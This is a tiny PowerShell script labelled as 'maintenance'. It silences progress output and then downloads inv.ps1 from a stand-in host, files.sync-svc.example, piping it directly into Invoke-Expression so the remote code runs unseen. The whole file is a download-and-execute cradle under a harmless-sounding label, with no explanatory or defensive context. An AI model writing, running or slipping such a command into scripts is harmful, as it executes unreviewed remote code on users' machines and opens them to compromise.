# maintenance 8748 v0
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://files.sync-svc.example/inv.ps1 | iex
